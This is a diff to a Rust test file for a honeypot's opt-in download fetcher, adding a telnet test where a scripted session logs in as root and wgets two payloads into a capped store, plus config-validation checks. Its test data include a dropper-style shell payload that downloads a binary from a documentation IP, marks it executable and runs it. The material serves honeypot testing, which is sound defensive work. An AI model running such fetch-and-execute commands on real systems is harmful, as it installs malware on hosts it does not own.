@@ -1,6 +1,6 @@
-//! The opt-in download fetcher through SSH `exec` with the real OpenSSH client: a local HTTP
-//! server's payload stored under its sha256, the size cap, the timeout, other schemes, and
-//! private addresses refused unless allowed.
+//! The opt-in download fetcher through SSH `exec` with the real OpenSSH client and through the
+//! real telnet client: a local HTTP server's payload stored under its sha256, the size and
+//! store caps, the timeout, other schemes, and private addresses refused unless allowed.
 
 use std::sync::Arc;
 use std::sync::atomic::{AtomicUsize, Ordering};
@@ -16,6 +16,9 @@ use crate::support::{TestPot, service, start};
 
 const PAYLOAD: &[u8] =
     b"#!/bin/sh\ncd /tmp; wget http://203.0.113.9/bins/x86; chmod +x x86; ./x86 ssh\n";
+
+/// A second payload: either fits a 100-byte store next to nothing else, not both.
+const SECOND: &[u8] = b"#!/bin/sh\necho a second stage that does not fit\n";
 
 /// A tiny HTTP/1.1 server on 127.0.0.1:0: `/x.sh` is the payload, `/big` streams 1 MiB
 /// without a Content-Length, `/hang` reads the request and never answers, `/gone` is a 404.
@@ -57,6 +60,14 @@ async fn http_server() -> (u16, Arc<AtomicUsize>) {
                                 return;
                             }
                         }
+                    }
+                    "/y.sh" => {
+                        let head = format!(
+                            "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
+                            SECOND.len()
+                        );
+                        let _ = s.write_all(head.as_bytes()).await;
+                        let _ = s.write_all(SECOND).await;
                     }
                     "/hang" => {
                         tokio::time::sleep(Duration::from_secs(120)).await;
@@ -223,4 +234,93 @@ async fn private_addresses_are_refused_by_default() {
     assert_eq!(hits.load(Ordering::SeqCst), 0, "the server was never contacted");
     assert_eq!(std::fs::read_dir(dir.path().join("downloads")).unwrap().count(), 0);
     pot.finish().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn telnet_fetches_too_and_a_full_store_keeps_nothing_new() {
+    let pexpect = std::process::Command::new("/usr/bin/python3")
+        .args(["-c", "import pexpect"])
+        .output()
+        .is_ok_and(|o| o.status.success());
+    if !have(&["telnet"]) {
+        return;
+    }
+    if !pexpect {
+        assert!(std::env::var("APIARY_REQUIRE_SERVICES").as_deref() != Ok("1"), "python3-pexpect");
+        return;
+    }
+    assert!(PAYLOAD.len() <= 100 && SECOND.len() <= 100 && PAYLOAD.len() + SECOND.len() > 100);
+    let dir = tempfile::tempdir().unwrap();
+    let (http, _) = http_server().await;
+    let mut svc = service("Telnet", "telnet", &["tcp:0"]);
+    svc.options = toml::from_str(&format!(
+        r#"
+        fetch = true
+        fetch_dir = "{}/downloads"
+        fetch_store_bytes = 100
+        fetch_private = true
+        "#,
+        dir.path().display()
+    ))
+    .unwrap();
+    let pot = start(&[svc], Limits::default(), "127.0.0.1");
+    let port = pot.handle.addr("Telnet", apiary_event::Transport::Tcp).unwrap().port();
+    let py = format!(
+        "import pexpect\n\
+         c = pexpect.spawn('telnet 127.0.0.1 {port}', timeout=20)\n\
+         c.expect('login: ')\n\
+         c.sendline('root')\n\
+         c.expect('Password: ')\n\
+         c.sendline('admin')\n\
+         c.expect('# ')\n\
+         c.sendline('cd /tmp; wget http://127.0.0.1:{http}/x.sh; wget http://127.0.0.1:{http}/y.sh')\n\
+         c.expect('# ')\n\
+         c.sendline('exit')\n\
+         c.expect(pexpect.EOF)\n\
+         print('done')\n"
+    );
+    let o = run(vec!["/usr/bin/python3".into(), "-c".into(), py], None).await;
+    assert!(String::from_utf8_lossy(&o.stdout).trim_end().ends_with("done"), "{o:?}");
+    let done = outcomes(&pot, 2).await;
+    // The two fetches run at once: whichever finishes first is stored, the other finds the
+    // store full.
+    let stored: Vec<&Event> =
+        done.iter().filter(|e| e.kind.as_str() == "download.fetched").collect();
+    let full: Vec<&Event> = done.iter().filter(|e| e.kind.as_str() == "download.failed").collect();
+    assert_eq!((stored.len(), full.len()), (1, 1), "{done:#?}");
+    assert_eq!(full[0].fields["reason"], "store_full", "{done:#?}");
+    let sha = stored[0].download.as_ref().unwrap().sha256.clone().unwrap();
+    let body = std::fs::read(dir.path().join("downloads").join(&sha)).unwrap();
+    assert!(body == PAYLOAD || body == SECOND);
+    assert_eq!(format!("{:x}", Sha256::digest(&body)), sha);
+    assert_eq!(std::fs::read_dir(dir.path().join("downloads")).unwrap().count(), 1);
+    let events = pot.finish().await;
+    let session = events.iter().find(|e| e.kind == Kind::DOWNLOAD_ATTEMPT).unwrap().session;
+    assert!(done.iter().all(|e| e.session == session));
+}
+
+#[test]
+fn config_check_rejects_bad_fetch_options() {
+    let dir = tempfile::tempdir().unwrap();
+    let check = |plugin: &str, extra: &str| {
+        let mut s = service("S", plugin, &["tcp:0"]);
+        s.options = toml::from_str(&format!(
+            "host_key_dir = \"{0}/keys\"\nhost_keys = [\"ed25519\"]\nfetch_dir = \"{0}/dl\"\n{extra}",
+            dir.path().display()
+        ))
+        .unwrap();
+        if plugin == "telnet" {
+            s.options.remove("host_key_dir");
+            s.options.remove("host_keys");
+        }
+        apiary_pot::check_services(&[s]).iter().map(ToString::to_string).collect::<Vec<_>>()
+    };
+    assert_eq!(check("ssh", "fetch = true"), Vec::<String>::new());
+    assert!(dir.path().join("dl").is_dir(), "the store is created like the host keys");
+    let typo = check("telnet", "fetch = true\nfetch_privat = true");
+    assert!(typo.iter().any(|e| e.contains("fetch_privat")), "{typo:?}");
+    let zero = check("ssh", "fetch = true\nfetch_max_bytes = 0");
+    assert!(zero.iter().any(|e| e.contains("fetch_max_bytes")), "{zero:?}");
+    let bad = check("telnet", "fetch = true\nfetch_timeout = \"soon\"");
+    assert_eq!(bad.len(), 1, "{bad:?}");
 }
